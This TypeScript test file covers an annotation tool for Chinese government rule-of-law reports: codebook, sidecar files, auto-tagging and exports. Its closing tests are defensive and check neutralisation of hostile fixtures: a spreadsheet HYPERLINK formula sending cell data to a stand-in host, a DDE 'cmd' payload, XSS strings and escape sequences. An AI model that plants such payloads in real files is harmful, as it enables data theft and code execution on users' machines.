import { test } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { readFileSync } from 'node:fs';
import {
  AnchorIndex,
  addTag,
  AnnotationStore,
  applyAutoTag,
  CSV_COLUMNS,
  csvField,
  decorationRanges,
  DEFAULT_CODEBOOK,
  exportRows,
  findMatches,
  makeMatcher,
  makeTarget,
  mergeAnnotations,
  parseCodebook,
  parseSidecar,
  reanchor,
  relativePath,
  removeTag,
  renameTag,
  serializeCodebook,
  serializeSidecar,
  sidecarPath,
  tagIndex,
  tagInfo,
  tagUsage,
  toCsv,
  toJsonl,
  toMarkdown,
  UNKNOWN_TAG_COLOR,
  type Annotation,
  problemText,
  type Problem,
} from '../../src/core/index.ts';
import { byYear, FLAT, load, ROOT } from './helpers.ts';
import { validate } from './schema.ts';
import { MemFs, fakeClock } from './memfs.ts';

const schema = (name: string) => JSON.parse(readFileSync(path.join(ROOT, 'schemas', name), 'utf8'));
const T = '2026-01-01T00:00:00.000Z';
const nanhai = load(FLAT);
const r2018 = byYear(nanhai, 2018);

function annotation(i: number, tags: string[], extra: Partial<Annotation> = {}): Annotation {
  const t = makeTarget(r2018, i);
  assert.ok(t.ok);
  return { id: `a${i}`, report: r2018.id, target: t.value.target, tags, note: '', author: 'analyst', created: T, modified: T, ...extra };
}

// ---------------------------------------------------------------------------------------------
// Codebook.

test('the default codebook: the seven areas of the 纲要 and four cross-cutting tags, stable ids, distinct colours', () => {
  const ids = DEFAULT_CODEBOOK.tags.map((t) => t.id);
  assert.deepEqual(ids, [
    'functions',
    'rules',
    'decisions',
    'enforcement',
    'oversight',
    'disputes',
    'capacity',
    'figures',
    'shortcomings',
    'innovations',
    'commitments',
  ]);
  assert.equal(DEFAULT_CODEBOOK.tags[0].label, '依法全面履行政府职能');
  assert.equal(DEFAULT_CODEBOOK.tags[6].label, '全面提高政府工作人员法治思维和依法行政能力');
  assert.deepEqual(
    DEFAULT_CODEBOOK.tags.slice(7).map((t) => t.label),
    ['数据指标', '问题不足', '创新举措', '计划承诺'],
  );
  assert.equal(new Set(DEFAULT_CODEBOOK.tags.map((t) => t.color.toLowerCase())).size, 11);
  assert.ok(DEFAULT_CODEBOOK.tags.every((t) => t.description.length > 10));
  // It round-trips through its file, which conforms to the schema.
  const text = serializeCodebook(DEFAULT_CODEBOOK);
  assert.ok(text.endsWith('\n'));
  assert.deepEqual(Object.keys(JSON.parse(text)), ['version', 'tags'], 'no $schema URL for VS Code to fetch');
  assert.deepEqual(validate(schema('codebook.schema.json'), JSON.parse(text)), []);
  const back = parseCodebook(text);
  assert.ok(back.ok);
  assert.deepEqual(back.value.tags, DEFAULT_CODEBOOK.tags);
});

test('codebook errors say what is wrong and where', () => {
  const bad = (text: string) => {
    const r = parseCodebook(text, '.annals/codebook.json');
    assert.ok(!r.ok);
    return problemText(r.problem);
  };
  assert.match(bad('{"tags": [\n  {"id": "a",}\n]}'), /codebook\.json: invalid JSON at line 2, column 14/);
  assert.match(bad('[]'), /expected an object with "tags", found an array/);
  assert.match(
    bad('{"tags": [{"id": "a b", "label": "x", "color": "red"}]}'),
    /tags\[0\]\.id: “a b” is not a valid tag id.*tags\[0\]\.color: “red” is not a colour/,
  );
  assert.match(
    bad('{"tags": [{"id": "a", "label": "x", "color": "#fff"}, {"id": "a", "label": "y", "color": "#000"}]}'),
    /tags\[1\]\.id: duplicate id “a” \(also tags\[0\]\)/,
  );
  assert.match(bad('{"tags": [{"id": "a", "label": "x", "color": "#fff", "parent": "zz"}]}'), /tags\[0\]\.parent: unknown tag id “zz”/);
  assert.match(
    bad('{"tags": [{"id": "a", "label": "x", "color": "#fff", "parent": "b"}, {"id": "b", "label": "y", "color": "#000", "parent": "a"}]}'),
    /cycle: a → b → a/,
  );
  assert.match(bad('{"version": 9, "tags": []}'), /written by a newer Annals/);
  assert.match(bad('{"tags": [{"label": 3, "color": "#fff"}]}'), /tags\[0\]\.id: missing.*tags\[0\]\.label: expected a string, found the number 3/);
});

test('renaming keeps the id (annotations keep their tag); deleting counts usage first; unknown ids are shown, not dropped', () => {
  const anns = [annotation(3, ['figures', 'rules']), annotation(4, ['figures'])];
  const renamed = renameTag(DEFAULT_CODEBOOK, 'figures', '数据与指标');
  assert.ok(renamed.ok);
  assert.equal(tagInfo(renamed.value, 'figures').label, '数据与指标');
  assert.equal(tagUsage(anns, 'figures'), 2);
  assert.equal(tagUsage(anns, 'rules'), 1);
  const withChild = addTag(renamed.value, { id: 'figures.money', label: '资金', color: '#123456', description: '', parent: 'figures' });
  assert.ok(withChild.ok);
  assert.equal(addTag(withChild.value, { id: 'figures', label: 'x', color: '#fff', description: '' }).ok, false);
  const removed = removeTag(withChild.value, 'figures');
  assert.ok(removed.ok);
  assert.equal(removed.value.tags.find((t) => t.id === 'figures.money')?.parent, undefined, 'children move up');
  const info = tagInfo(removed.value, 'figures');
  assert.equal(info.known, false);
  assert.equal(info.label, 'figures');
  assert.equal(info.color, UNKNOWN_TAG_COLOR);
  assert.equal(tagIndex(removed.value)('figures').known, false);
});

// ---------------------------------------------------------------------------------------------
// Sidecar format.

test('sidecar text is stable, sorted by report, position, id, with a final newline, and conforms to its schema', () => {
  const anns = [
    annotation(9, ['rules'], { id: 'b' }),
    annotation(2, ['figures'], { id: 'z' }),
    annotation(2, ['rules'], { id: 'a' }),
    { ...annotation(1, ['x']), report: 'r0' },
  ];
  const text = serializeSidecar({ version: 1, source: 'nanhai-feed-flattened.txt', annotations: anns });
  const again = serializeSidecar({ version: 1, source: 'nanhai-feed-flattened.txt', annotations: [...anns].reverse() });
  assert.equal(text, again, 'the order of the input does not matter');
  const j = JSON.parse(text);
  assert.deepEqual(Object.keys(j), ['version', 'source', 'annotations'], 'no $schema URL for VS Code to fetch');
  assert.deepEqual(
    j.annotations.map((a: Annotation) => a.id),
    ['a1', 'a', 'z', 'b'],
  );
  assert.match(text, /^{\n {2}"version": 1,\n {2}"source"/);
  assert.ok(text.endsWith(']\n}\n'));
  assert.deepEqual(validate(schema('sidecar.schema.json'), j), []);
  const back = parseSidecar(text, 'x.annals.json');
  assert.ok(back.ok);
  assert.equal(serializeSidecar(back.value), text, 'parse and serialise round-trip exactly');
  // A file written before 0.x names the old $schema URL: it still loads, and is written back without it.
  const old = JSON.stringify({ $schema: 'https://annals.invalid/schemas/sidecar.schema.json', ...j }, null, 2) + '\n';
  const oldBack = parseSidecar(old, 'x.annals.json');
  assert.ok(oldBack.ok);
  assert.equal(serializeSidecar(oldBack.value), text);
  const oldCodebook = parseCodebook(
    JSON.stringify({ $schema: 'https://annals.invalid/schemas/codebook.schema.json', version: 1, tags: DEFAULT_CODEBOOK.tags }),
  );
  assert.ok(oldCodebook.ok);
  assert.equal(serializeCodebook(oldCodebook.value), serializeCodebook(DEFAULT_CODEBOOK));
});

test('sidecar errors name the JSON path; a newer version is refused as such', () => {
  const err = (t: string) => {
    const r = parseSidecar(t, 'a.txt.annals.json');
    assert.ok(!r.ok);
    assert.equal(r.problem.code, 'inFile');
    assert.equal(r.problem.args[0], 'a.txt.annals.json', 'the problem names the file');
    const inner = r.problem.args[1];
    const code = typeof inner === 'object' ? inner.code : null;
    return { ...r, kind: code === 'sidecarNewer' ? 'newer-version' : code === 'invalidJson' ? 'invalid-json' : 'invalid-shape' };
  };
  assert.equal(err('{"version": 2, "annotations": []}').kind, 'newer-version');
  assert.equal(err('{"version": 1, "annotations": [').kind, 'invalid-json');
  const shape = err(
    JSON.stringify({
      version: 1,
      annotations: [
        {
          id: 'a',
          report: 'r',
          tags: ['t', 3],
          created: 'yesterday',
          modified: T,
          target: { paragraph: 'p1', quote: { exact: 'x' }, position: { start: 5, end: 2 } },
        },
      ],
    }),
  );
  assert.equal(shape.kind, 'invalid-shape');
  assert.match(problemText(shape.problem), /annotations\[0\]\.target\.position\.end: end \(2\) is before start \(5\)/);
  assert.match(problemText(shape.problem), /annotations\[0\]\.tags\[1\]: expected a tag id, found the number 3/);
  assert.match(problemText(shape.problem), /annotations\[0\]\.created: “yesterday” is not an ISO-8601 date/);
});

test('sidecar paths: next to the source, or mirrored under the sidecar folder; the source relative to the sidecar', () => {
  const at = (source: string, loc?: { workspaceRoot?: string; sidecarFolder?: string }) => {
    const r = sidecarPath(source, loc);
    assert.ok(r.ok, !r.ok ? problemText(r.problem) : '');
    return r.value;
  };
  assert.equal(at('/ws/a/b.txt'), '/ws/a/b.txt.annals.json');
  assert.equal(at('/ws/a/b.txt', { workspaceRoot: '/ws/', sidecarFolder: '/.annals/sidecars/' }), '/ws/.annals/sidecars/a/b.txt.annals.json');
  assert.equal(at('/elsewhere/b.txt', { workspaceRoot: '/ws', sidecarFolder: 'side' }), '/elsewhere/b.txt.annals.json');
  // Inside the root means under it: /ws-old is a sibling of /ws, not inside it.
  assert.equal(at('/ws-old/b.txt', { workspaceRoot: '/ws', sidecarFolder: 'side' }), '/ws-old/b.txt.annals.json');
  assert.equal(at('file:///ws-old/b.txt', { workspaceRoot: 'file:///ws', sidecarFolder: 'side' }), 'file:///ws-old/b.txt.annals.json');
  assert.equal(at('file:///ws/%E5%8D%97.txt', { workspaceRoot: 'file:///ws', sidecarFolder: 's' }), 'file:///ws/s/%E5%8D%97.txt.annals.json');
  // A folder name with #, ?, a space or CJK, in a URI: encoded as URI segments; in a path: as is.
  assert.equal(
    at('file:///ws/a.txt', { workspaceRoot: 'file:///ws', sidecarFolder: '标注 #1?/x' }),
    'file:///ws/%E6%A0%87%E6%B3%A8%20%231%3F/x/a.txt.annals.json',
  );
  assert.equal(at('/ws/a.txt', { workspaceRoot: '/ws', sidecarFolder: '标注 #1' }), '/ws/标注 #1/a.txt.annals.json');
  // Normalised: `.`, `..` inside, doubled and back slashes; a folder that is the root itself is next to the source.
  assert.equal(at('/ws/a.txt', { workspaceRoot: '/ws', sidecarFolder: './x/../side\\inner//' }), '/ws/side/inner/a.txt.annals.json');
  assert.equal(at('/ws/a.txt', { workspaceRoot: '/ws', sidecarFolder: 'x/..' }), '/ws/a.txt.annals.json');
  // Outside the workspace: refused, never normalised into somewhere else.
  for (const folder of ['..', '../x', 'x/../../y', '..\\y']) {
    const r = sidecarPath('/ws/a.txt', { workspaceRoot: '/ws', sidecarFolder: folder });
    assert.ok(!r.ok, folder);
    assert.equal(r.problem.code, 'sidecarFolderOutside');
  }
  assert.equal(relativePath('/ws/.annals/sidecars/a', '/ws/a/b.txt'), '../../../a/b.txt');
  assert.equal(relativePath('file:///ws/s', 'file:///ws/%E5%8D%97.txt'), '../南.txt');
});

test('merge: the newer modified wins; a local annotation is never dropped unless deleted outside while unchanged here', () => {
  const x = annotation(1, ['a']);
  const xNew = { ...x, note: 'new', modified: '2026-02-01T00:00:00.000Z' };
  const y = annotation(2, ['b']);
  const m = mergeAnnotations([x, y], [xNew], new Map([[x.id, x.modified]]), new Map());
  assert.deepEqual(
    m.annotations.map((a) => [a.id, a.note]),
    [
      [x.id, 'new'],
      [y.id, ''],
    ],
  );
  assert.deepEqual(m.fromDisk, [x.id]);
  const gone = mergeAnnotations(
    [x, y],
    [],
    new Map([
      [x.id, x.modified],
      [y.id, 'older'],
    ]),
    new Map(),
  );
  assert.deepEqual(
    gone.annotations.map((a) => a.id),
    [y.id],
    'y changed here since the base: kept',
  );
  assert.deepEqual(gone.deletedOutside, [x.id]);
  const dead = mergeAnnotations([], [x], new Map(), new Map([[x.id, x.modified]]));
  assert.deepEqual(dead.annotations, [], 'a local delete is not undone by the version it deleted');
});

// ---------------------------------------------------------------------------------------------
// Auto-tag.

test('auto-tag: regex or plain text, a clear error for a bad pattern, a preview per paragraph, and no double tagging', async () => {
  assert.match(problemText((makeMatcher('(') as { problem: Problem }).problem), /^invalid regular expression \/\(\/: Unterminated group/);
  assert.match(problemText((makeMatcher('/x/q') as { problem: Problem }).problem), /unknown flag “q”/);
  assert.equal(problemText((makeMatcher('') as { problem: Problem }).problem), 'the pattern is empty');
  const plain = makeMatcher('(一)', 'text');
  assert.ok(plain.ok && plain.regex.test('(一)加强') && !plain.regex.test('一'));
  const m = makeMatcher('/行政复议|复议/g');
  assert.ok(m.ok);
  assert.equal(m.regex.flags, '', 'g is dropped: matching stays stateless');
  const all = findMatches(nanhai.reports, m);
  assert.equal(all.length, 9, 'three paragraphs a year name 复议 (a grep of the feed agrees)');
  assert.ok(all.every((x) => /行政复议|复议/.test(x.text)));
  assert.ok(all.every((x) => x.text.slice(x.match.start, x.match.end).includes('复议')));
  const only2017 = findMatches(nanhai.reports, m, { year: 2017 });
  assert.equal(only2017.length, 3);
  assert.ok(only2017.every((x) => x.report.year === 2017));

  const fs = new MemFs();
  const store = await AnnotationStore.open(fs, '/ws/nanhai.txt', { author: 'script', now: fakeClock() });
  const res = applyAutoTag(store, only2017, 'disputes', { note: 'auto' });
  assert.equal(res.added.length, only2017.length);
  assert.ok(res.added.every((a) => a.note === 'auto' && a.author === 'script' && a.tags[0] === 'disputes'));
  // Running it again finds the same paragraphs already tagged, and adds nothing.
  const again = findMatches(nanhai.reports, m, { year: 2017, tag: 'disputes', existing: store.all() });
  assert.ok(again.every((x) => x.already));
  const res2 = applyAutoTag(store, again, 'disputes');
  assert.equal(res2.added.length, 0);
  assert.equal(res2.skipped, only2017.length);
});

// ---------------------------------------------------------------------------------------------
// Decorations.

test('decorations: the visible paragraphs with annotations, first tag colour, labels, spans and review marks', () => {
  const i = r2018.paragraphs.findIndex((p) => p.role === 'body' && p.text.length > 60);
  const p = r2018.paragraphs[i];
  const spanT = makeTarget(r2018, i, { start: p.start + 2, end: p.start + 10 });
  assert.ok(spanT.ok);
  const anns = [
    annotation(i, ['figures', 'ghost']),
    { ...annotation(i, ['rules']), id: 'span', target: spanT.value.target },
    annotation(i + 3, ['innovations']),
  ];
  const anchors = reanchor(r2018, anns);
  const index = new AnchorIndex(anns, anchors);
  const tags = tagIndex(DEFAULT_CODEBOOK);
  const decos = decorationRanges(r2018, index, tags, [{ startLine: p.line, endLine: p.line }]);
  assert.equal(decos.length, 1);
  const d = decos[0];
  assert.deepEqual([d.paragraph, d.start, d.end], [i, p.start, p.end]);
  assert.equal(d.color, tags('figures').color);
  assert.deepEqual(d.labels, ['数据指标', 'ghost', '完善依法行政制度体系']);
  assert.deepEqual(
    d.spans.map((s) => [s.start, s.end]),
    [[p.start + 2, p.start + 10]],
  );
  assert.equal(d.review, false);
  const wide = decorationRanges(r2018, index, tags, [{ startLine: 0, endLine: 1e9 }]);
  assert.deepEqual(
    wide.map((x) => x.paragraph),
    [i, i + 3],
  );
  assert.deepEqual(decorationRanges(r2018, index, tags, [{ startLine: 0, endLine: 1 }]), []);
});

// ---------------------------------------------------------------------------------------------
// Export.

function exportFixture() {
  const chapterI = r2018.paragraphs.findIndex((p) => p.role === 'body' && p.index > 5);
  const anns: Annotation[] = [
    annotation(chapterI, ['figures', 'ghost'], { note: 'He said "yes", then\nleft', created: '2026-03-01T08:00:00.000Z' }),
    annotation(chapterI + 1, []),
    {
      ...annotation(2, ['rules']),
      id: 'lost',
      target: {
        ...annotation(2, []).target,
        paragraph: 'p00000000',
        quote: { type: 'TextQuoteSelector', exact: '一段已经删除的文字，再也找不到了。', prefix: '', suffix: '' },
      },
    },
  ];
  return { anns, rows: exportRows([{ source: 'nanhai.txt', imp: nanhai, annotations: anns }], DEFAULT_CODEBOOK), chapterI };
}

test('export csv: UTF-8 BOM, the listed columns, RFC 4180 quoting, outline titles and anchor status', () => {
  const { rows, chapterI } = exportFixture();
  const csv = toCsv(rows);
  assert.ok(
    csv.startsWith(
      '\uFEFFsource,report id,series,issuer,year,report,part,chapter,section,paragraph id,tags,tag ids,quote,start,end,scope,note,coder,created,modified,anchor status,report memo\r\n',
    ),
  );
  assert.equal(CSV_COLUMNS.length, 22);
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('plain'), 'plain');
  const first = rows[0];
  assert.equal(first.year, 2018);
  assert.ok(first.part.startsWith('2018年'), first.part);
  assert.equal(first.chapter, '七、加强法治能力建设,提高政府工作人员法治思维和能力');
  assert.equal(first.text, r2018.paragraphs[chapterI].text);
  assert.ok(csv.includes('"He said ""yes"", then\nleft"'), 'quotes doubled, line break kept inside quotes');
  assert.ok(csv.includes(',数据指标; ghost,figures; ghost,'));
  assert.ok(csv.includes(',exact-id,\r\n'), 'the status, then an empty report memo');
  const para = r2018.paragraphs[chapterI];
  const expected = [
    'nanhai.txt',
    r2018.id,
    '佛山市南海区人民政府 · 法治政府建设工作报告',
    '佛山市南海区人民政府',
    '2018',
    r2018.title,
    first.part,
    first.chapter,
    first.section,
    para.id,
    '数据指标; ghost',
    'figures; ghost',
    para.text,
    String(first.target.position.start),
    String(first.target.position.end),
    'paragraph',
    'He said "yes", then\nleft',
    'analyst',
    '2026-03-01T08:00:00.000Z',
    first.annotation.modified,
    'exact-id',
    '',
  ];
  assert.ok(csv.startsWith(`${csv.split('\r\n')[0]}\r\n${expected.map(csvField).join(',')}\r\n`), 'the first record, cell by cell');
  assert.ok(csv.includes(',paragraph,,analyst,'), 'an annotation without a note: empty note, then its coder');
  assert.ok(csv.includes('一段已经删除的文字，再也找不到了。,'), 'an orphan shows its stored quote');
  assert.ok(csv.trimEnd().endsWith(',orphan,'), 'and its status (no report memo)');
  assert.equal(
    csv.split('\r\n').filter(Boolean).length,
    1 + rows.length,
    'a header and one CRLF record per row (the note’s line break stays inside its quotes)',
  );
});

test('export jsonl: one W3C Web Annotation per line, tagging and commenting bodies, both selectors', () => {
  const { rows } = exportFixture();
  const lines = toJsonl(rows).trimEnd().split('\n');
  assert.equal(lines.length, rows.length);
  const a = JSON.parse(lines[0]);
  assert.deepEqual(Object.keys(a), ['@context', 'id', 'type', 'created', 'modified', 'creator', 'body', 'annals', 'target']);
  assert.equal(a.annals.report, r2018.id);
  assert.equal(a.annals.source, 'nanhai.txt');
  assert.equal(a.annals.paragraph, rows[0].target.paragraph);
  assert.equal(a.annals.coder, 'analyst');
  assert.equal(a['@context'], 'http://www.w3.org/ns/anno.jsonld');
  assert.equal(a.type, 'Annotation');
  assert.equal(a.id, `urn:annals:annotation:${rows[0].annotation.id}`);
  assert.deepEqual(a.creator, { type: 'Person', name: 'analyst' });
  assert.deepEqual(
    a.body.map((b: { purpose: string; value: string }) => [b.purpose, b.value]),
    [
      ['tagging', '数据指标'],
      ['tagging', 'ghost'],
      ['commenting', 'He said "yes", then\nleft'],
    ],
  );
  assert.equal(a.body[2].format, 'text/markdown');
  assert.equal(a.target.source, r2018.link);
  assert.deepEqual(
    a.target.selector.map((s: { type: string }) => s.type),
    ['TextQuoteSelector', 'TextPositionSelector'],
  );
  assert.equal(a.target.selector[0].exact, rows[0].annotation.target.quote.exact);
  // The context on the right sides: the text before the quote is the prefix, after it the suffix.
  const text = r2018.text;
  const at = text.indexOf(a.target.selector[0].exact);
  assert.notEqual(a.target.selector[0].prefix, a.target.selector[0].suffix);
  assert.ok(a.target.selector[0].prefix.length > 0 && a.target.selector[0].suffix.length > 0);
  assert.ok(text.slice(0, at).endsWith(a.target.selector[0].prefix), 'the prefix is the text before the quote');
  assert.ok(text.slice(at + a.target.selector[0].exact.length).startsWith(a.target.selector[0].suffix), 'the suffix is the text after it');
  assert.equal(JSON.parse(lines[1]).body.length, 0, 'no tags and no note: an empty body array');
});

test('export md: grouped by tag in codebook order, with counts, unknown and untagged groups, status marks', () => {
  const { rows } = exportFixture();
  const md = toMarkdown(rows, DEFAULT_CODEBOOK);
  assert.ok(md.startsWith('# Annotations\n\n3 annotations.\n'));
  const heads = [...md.matchAll(/^## (.*)$/gm)].map((m) => m[1]);
  assert.deepEqual(heads, ['完善依法行政制度体系 (`rules`) — 1', '数据指标 (`figures`) — 1', 'ghost (`ghost`) — unknown tag — 1', 'Untagged — 1']);
  assert.match(md, /\*\(orphan: its text is gone\)\*/);
  assert.match(md, /^ {2}- He said "yes", then left — analyst$/m);
});

test('JSONL export: the selectors are where the annotation is now, not where it was stored', async () => {
  const { fromText } = await import('./helpers.ts');
  const { makeTarget, exportRows, toJsonl, codePointToUtf16 } = await import('../../src/core/index.ts');
  const old = fromText('某区2020年度工作报告\n\n一、加强组织领导\n\n全年召开专题会议12次。\n\n二、强化监督\n\n收到行政复议申请918宗。\n');
  const r0 = old.reports[0];
  const p = r0.paragraphs.findIndex((x) => x.text.startsWith('收到行政复议'));
  const t = makeTarget(r0, p);
  assert.ok(t.ok);
  const annotation = {
    id: 'a1',
    report: r0.id,
    target: t.value.target,
    tags: ['figures'],
    note: '',
    author: 'x',
    created: '2026-01-01T00:00:00.000Z',
    modified: '2026-01-01T00:00:00.000Z',
  };
  // A paragraph is inserted earlier: the stored position is now wrong, the paragraph id still right.
  const now = fromText(
    '某区2020年度工作报告\n\n一、加强组织领导\n\n全年召开专题会议12次。新增一段说明文字。\n\n补充的段落，提前插入。\n\n二、强化监督\n\n收到行政复议申请918宗。\n',
  );
  const rows = exportRows([{ source: 'x.txt', imp: now, annotations: [annotation] }], null);
  assert.equal(rows[0].status, 'exact-id');
  const w = JSON.parse(toJsonl(rows).trim());
  const [quote, position] = w.target.selector;
  const text = now.reports[0].text;
  assert.equal(text.slice(codePointToUtf16(text, position.start), codePointToUtf16(text, position.end)), quote.exact);
  assert.equal(quote.exact, '收到行政复议申请918宗。');
  assert.notEqual(position.start, t.value.target.position.start, 'moved with the text');
});

test('the sidecar reader is as strict as the schema: unknown properties, wrong selector types and loose dates are refused; repeated tags are kept once', async () => {
  const { parseSidecar, serializeSidecar } = await import('../../src/core/index.ts');
  const good = {
    version: 1,
    source: 'x.txt',
    annotations: [
      {
        id: 'a',
        report: 'r',
        target: {
          paragraph: 'p1',
          quote: { type: 'TextQuoteSelector', exact: 'x', prefix: '', suffix: '' },
          position: { type: 'TextPositionSelector', start: 0, end: 1 },
        },
        tags: ['t', 't'],
        note: '',
        author: '',
        created: '2026-01-01T00:00:00.000Z',
        modified: '2026-01-01T00:00:00Z',
      },
    ],
  };
  const ok = parseSidecar(JSON.stringify(good), 'f');
  assert.ok(ok.ok);
  assert.deepEqual(ok.value.annotations[0].tags, ['t']);
  assert.ok(serializeSidecar(ok.value).includes('"t"'));
  const bad = (mutate: (x: typeof good) => void) => {
    const x = structuredClone(good);
    mutate(x);
    const r = parseSidecar(JSON.stringify(x), 'f');
    assert.ok(!r.ok);
    return problemText(r.problem);
  };
  assert.match(
    bad((x) => Object.assign(x.annotations[0], { colour: 'red' })),
    /annotations\[0\]\.colour: unknown property/,
  );
  assert.match(
    bad((x) => Object.assign(x, { extra: 1 })),
    /extra: unknown property/,
  );
  assert.match(
    bad((x) => (x.annotations[0].target.quote.type = 'Bogus')),
    /quote\.type: expected "TextQuoteSelector"/,
  );
  assert.match(
    bad((x) => (x.annotations[0].created = 'March 1, 2026')),
    /created: “March 1, 2026” is not an ISO-8601/,
  );
  assert.match(
    bad((x) => (x.annotations[0].modified = '2026')),
    /modified: “2026” is not an ISO-8601/,
  );
});

test('CSV: a field a spreadsheet would run as a formula gets an apostrophe first, in every column', () => {
  assert.equal(csvField('=HYPERLINK("http://evil.example/?"&A1,"click")'), `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  for (const f of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1']) assert.equal(csvField(f)[0] === '"' ? csvField(f)[1] : csvField(f)[0], "'", f);
  assert.equal(csvField('1+1='), '1+1=', 'only the first character counts');
  const { anns } = exportFixture();
  const rows = exportRows([{ source: 'n.txt', imp: nanhai, annotations: [{ ...anns[0], note: '=cmd|"/c calc"!A0', author: '@me' }] }], DEFAULT_CODEBOOK);
  const csv = toCsv(rows);
  assert.ok(csv.includes(`,"'=cmd|""/c calc""!A0",'@me,`), csv.split('\r\n')[1]);
});

test('Markdown export: tag ids, notes and titles come out as text, whatever they hold', () => {
  const { anns } = exportFixture();
  const evil = ['x`<img src=x onerror=alert(1)>`', 'y\n# Pwned heading', 'z``\u001b]0;t\u0007'];
  const rows = exportRows(
    [
      {
        source: 'n.txt',
        imp: nanhai,
        annotations: [{ ...anns[0], tags: evil, note: 'line one\n# not a heading\n<script>alert(1)</script> [link](javascript:x) ![i](x)' }],
      },
    ],
    DEFAULT_CODEBOOK,
  );
  const md = toMarkdown(rows, DEFAULT_CODEBOOK);
  const headings = md.split('\n').filter((l) => l.startsWith('#'));
  assert.deepEqual(
    headings.map((h) => h.replace(/ — 1$/, '')),
    [
      '# Annotations',
      '## x\\`\\<img src=x onerror=alert(1)\\>\\` (`` x`<img src=x onerror=alert(1)>` ``) — unknown tag',
      '## y \\# Pwned heading (`y # Pwned heading`) — unknown tag',
      '## z\\`\\`␛\\]0;t␇ (```z``␛]0;t␇```) — unknown tag',
    ],
  );
  // Raw HTML only inside the tag ids' code spans, which show it as text; everywhere else `<` is escaped.
  const outsideCode = md.replace(/ \((`+) ?.*? ?\1\) — unknown tag/g, '');
  assert.doesNotMatch(outsideCode, /(^|[^\\])</m);
  assert.match(md, /line one \\# not a heading \\<script\\>alert\(1\)\\</);
  assert.match(md, /\\\[link\\\]\(javascript:x\) \\!\\\[i\\\]\(x\)/);
  assert.doesNotMatch(md, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
});

test('JSONL export: U+2028, U+2029, NEL U+0085 and U+001E are escaped, so that every reader sees one record per line', () => {
  const { anns } = exportFixture();
  const note = 'a\u2028b\u2029c\u0085d\u001ee\u009bf';
  const rows = exportRows([{ source: 'n.txt', imp: nanhai, annotations: [{ ...anns[0], note }, anns[1]] }], DEFAULT_CODEBOOK);
  const out = toJsonl(rows);
  assert.doesNotMatch(out, /[\u2028\u2029\u0085\u001e\u009b]/);
  assert.ok(out.includes('a\\u2028b\\u2029c\\u0085d\\u001ee\\u009bf'), 'as \\u escapes');
  const records = out.split(/\r\n|[\n\r\u2028\u2029\u0085\u001e]/).filter(Boolean);
  assert.equal(records.length, 2);
  assert.equal(JSON.parse(records[0]).body.at(-1).value, note, 'the note itself is unchanged');
});
